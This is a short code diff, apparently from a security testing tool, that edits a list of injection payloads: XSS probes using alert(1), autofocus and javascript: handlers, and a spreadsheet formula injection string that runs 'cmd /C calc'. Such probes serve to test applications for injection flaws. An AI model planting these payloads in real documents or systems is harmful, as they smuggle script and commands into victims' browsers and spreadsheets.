@@ -28,6 +28,6 @@ MARKUP = Payload(
     f'" hx-get="{ADDRESS}attribute" hx-trigger="load" onfocus="alert(1)" autofocus {TAG}="1" \''
     f" onmouseover='alert(1)' {TAG}='1' javascript:alert(1) \\\" `{SIGNS}",
 )
-FORMULA = Payload("formula", f"=cmd|' /C calc'!A0+{WORD}\t\r\n@SUM(1)<font color=red><b>&<a href='{ADDRESS}'>{SIGNS}")
+FORMULA = Payload("formula", f"=1+{WORD}|cmd|' /C calc'!A0\t\r\n@SUM(1)<font color=red><b>&<a href='{ADDRESS}'>{SIGNS}")
 LONG = Payload("long", f"+{WORD}{'W' * 2000} " + f"{WORD} <i>&nbsp; " * 90, keeps_to_length=True)
 PAYLOADS = (MARKUP, FORMULA, LONG)
